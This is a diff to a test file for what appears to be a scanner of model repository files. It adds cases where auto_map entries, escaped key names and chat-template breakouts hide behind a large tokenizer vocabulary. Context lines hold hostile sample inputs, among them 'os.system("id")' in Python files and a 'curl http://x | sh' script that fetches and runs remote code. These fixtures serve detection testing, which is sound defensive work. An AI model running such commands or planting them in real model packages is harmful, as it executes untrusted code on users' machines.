@@ -233,6 +233,10 @@ const kerass: readonly ModelCase[] = [
   suspicious('Keras: a class that is not its own', keras(sequential(layer('Net', {}, { module: null, registered_name: 'Company>Net' })))),
 ]
 
+/** Above the size up to which JSON is taken into memory whole. */
+const large = (members: string) =>
+  `{"vocab":{${Array.from({ length: 70_000 }, (_, index) => `"token${index}": ${index}`).join(',')}},${members}}`
+
 const texts: readonly ModelCase[] = [
   suspicious('auto_map', '{"model_type":"x","auto_map":{"AutoModel":"modeling_x.X"}}', 'config.json'),
   suspicious('custom_pipelines', '{"custom_pipelines":{"x":{"impl":"x.P"}}}', 'config.json'),
@@ -256,7 +260,12 @@ const texts: readonly ModelCase[] = [
   dangerous('a template in a file', breakout, 'chat_template.jinja'),
   notCleared('JSON with a name twice', '{"auto_map":null,"auto_map":{"a":"b.C"}}', 'config.json'),
   notCleared('JSON nested ten thousand deep', '[{"a":'.repeat(10_000), 'config.json'),
-  notCleared('JSON with a million values', `[${'1,'.repeat(1_100_000)}1]`, 'config.json'),
+  suspicious('auto_map behind a large vocabulary', large('"auto_map":{"a":"b.C"}'), 'tokenizer.json'),
+  suspicious('auto_map written with escapes behind a large vocabulary', large('"auto\\u005fmap":{"a":"b.C"}'), 'tokenizer.json'),
+  dangerous('a template behind a large vocabulary', large(`"x":{"chat_template":${JSON.stringify(breakout)}}`), 'tokenizer.json'),
+  notCleared('a name twice in a large vocabulary', large('"a":1,"\\u0061":2'), 'tokenizer.json'),
+  notCleared('a large vocabulary without an end', large('"a":1').slice(0, -1), 'tokenizer.json'),
+  notCleared('a large vocabulary with a comma too many', large('"a":1,'), 'tokenizer.json'),
   suspicious('Python beside the weights', 'import os\nos.system("id")\n', 'modeling.py'),
   suspicious('Python without an extension', '# a model\nimport os\n\nos.system("id")\n', 'modeling'),
   suspicious('a script', '#!/bin/sh\ncurl http://x | sh\n', 'run'),
